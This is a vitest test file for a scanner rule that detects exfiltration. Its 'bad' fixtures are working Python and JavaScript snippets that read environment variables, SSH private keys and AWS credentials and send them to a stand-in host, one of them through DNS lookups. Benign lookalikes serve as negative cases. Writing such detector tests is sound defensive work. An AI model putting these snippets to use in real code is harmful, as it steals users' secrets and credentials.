import { describe, expect, it } from 'vitest'
import { SEVERITIES, type Severity } from '../../domain/report'
import { findingsOf } from '../testing/bundleOf'

const bad: Array<[string, Record<string, string | Uint8Array>, Severity]> = [
  [
    'the whole environment, in Python',
    {
      'a.py':
        'import os, requests\ndata = dict(os.environ)\nrequests.post("https://drop.unknown-vendor.net/e", json=data)\n',
    },
    'critical',
  ],
  [
    'a key file, in JavaScript',
    {
      'a.mjs':
        "import fs from 'node:fs'\nimport os from 'node:os'\nimport path from 'node:path'\nconst k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_ed25519'), 'utf8')\nawait fetch('https://drop.unknown-vendor.net', { method: 'POST', body: k })\n",
    },
    'critical',
  ],
  [
    'across functions and files',
    {
      'collect.py': 'import os\ndef gather_all():\n    return {k: v for k, v in os.environ.items()}\n',
      'main.py':
        'import requests\nfrom collect import gather_all\ndef report_usage(payload):\n    requests.post("https://drop.unknown-vendor.net", json=payload)\nreport_usage(gather_all())\n',
    },
    'critical',
  ],
  [
    'a variable of another service, taken out of an environment that was handed on',
    {
      'a.mjs':
        "function take(options) {\n  const env = options?.env ?? process.env\n  return env.AWS_SECRET_ACCESS_KEY\n}\nawait fetch('https://drop.unknown-vendor.net', { method: 'POST', body: take({}) })\n",
    },
    'critical',
  ],
  [
    'a key file that is the default of an option',
    {
      'a.py':
        "import argparse, requests\np = argparse.ArgumentParser(description='sync')\np.add_argument('--source', default='/root/.ssh/id_rsa')\nargs = p.parse_args()\nrequests.post('https://drop.unknown-vendor.net', data=open(args.source).read())\n",
    },
    'critical',
  ],
  [
    'bytes of a key file as a part of a host name',
    {
      'a.py':
        "import os, socket\nkey = open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read().hex()\nsocket.getaddrinfo(f'{key[:60]}.t.unknown-vendor.net', 53)\n",
    },
    'critical',
  ],
  [
    'from inside a callback to a variable outside it',
    {
      'a.mjs':
        "import fs from 'node:fs'\nlet held = ''\nfs.createReadStream('/home/me/.aws/credentials').on('data', (part) => {\n  held += part\n})\nsetTimeout(() => fetch('https://drop.unknown-vendor.net', { method: 'POST', body: held }), 50)\n",
    },
    'critical',
  ],
]

const good: Array<[string, Record<string, string | Uint8Array>]> = [
  [
    'a declared key in a header',
    {
      'a.py':
        'import os, requests\nkey = os.environ["ACME_API_KEY"]\nrequests.post("https://api.acme.io/v1", headers={"Authorization": f"Bearer {key}"}, json={"q": 1})\n',
    },
  ],
  [
    'the environment handed to a child process',
    { 'a.py': 'import os, subprocess\nsubprocess.run(["make", "all"], env={**os.environ, "A": "1"})\n' },
  ],
  [
    'one token of an environment that was handed on, in a header to its maker',
    {
      'a.mjs':
        "function base(options) {\n  const env = options?.env ?? process.env\n  const token = env.GATE_TOKEN\n  return { url: 'https://staging.acme-docs.dev/', headers: { Cookie: `GATE_TOKEN=${token}` } }\n}\nconst at = base()\nawait fetch(at.url, { headers: { ...at.headers } })\n",
    },
  ],
  [
    'a check that a host is public before it is called',
    {
      'a.py':
        "import socket, urllib.parse\nUSER_AGENT = 'checker/1.0'\ndef is_public(url):\n    host = urllib.parse.urlsplit(url).hostname\n    return socket.getaddrinfo(host, 443)\nis_public(open('urls.txt').read())\n",
    },
  ],
  [
    'a page that saves to the server that it came from',
    {
      'app.js':
        "const held = localStorage.getItem('draft')\nfetch('/api/resolve', { method: 'POST', body: JSON.stringify({ held, at: '.env' }) })\n",
    },
  ],
  [
    'a list of hosts from the settings of ssh, which hold no key',
    {
      'a.py':
        "import os, subprocess\nsettings = os.path.expanduser('~/.ssh/config_work')\nsubprocess.run(['scp', '-F', settings, 'work:/data/list.csv', '.'])\n",
    },
  ],
  [
    'two skills whose functions and files only share their names',
    {
      'skills/keys/SKILL.md': '---\nname: keys\ndescription: Shows which keys are set.\n---\nRun show.py.\n',
      'skills/keys/show.py':
        'import os\ndef collect_facts():\n    return dict(os.environ)\nnames = sorted(collect_facts().keys())\n',
      'skills/facts/SKILL.md': '---\nname: facts\ndescription: Posts weather facts.\n---\nRun post.py.\n',
      'skills/facts/post.py':
        "import requests\nfrom weather import *\nrequests.post('https://weather.acme.io/v1', json=collect_facts())\n",
    },
  ],
]

describe('exfiltration-program', () => {
  it.each(bad)('finds %s', async (_, files, severity) => {
    const found = await findingsOf('exfiltration-program', files)
    expect(found.map((finding) => SEVERITIES.indexOf(finding.severity))).toContain(SEVERITIES.indexOf(severity))
  })

  it.each(good)('leaves %s alone', async (_, files) => {
    expect(await findingsOf('exfiltration-program', files, 'high')).toEqual([])
  })
})
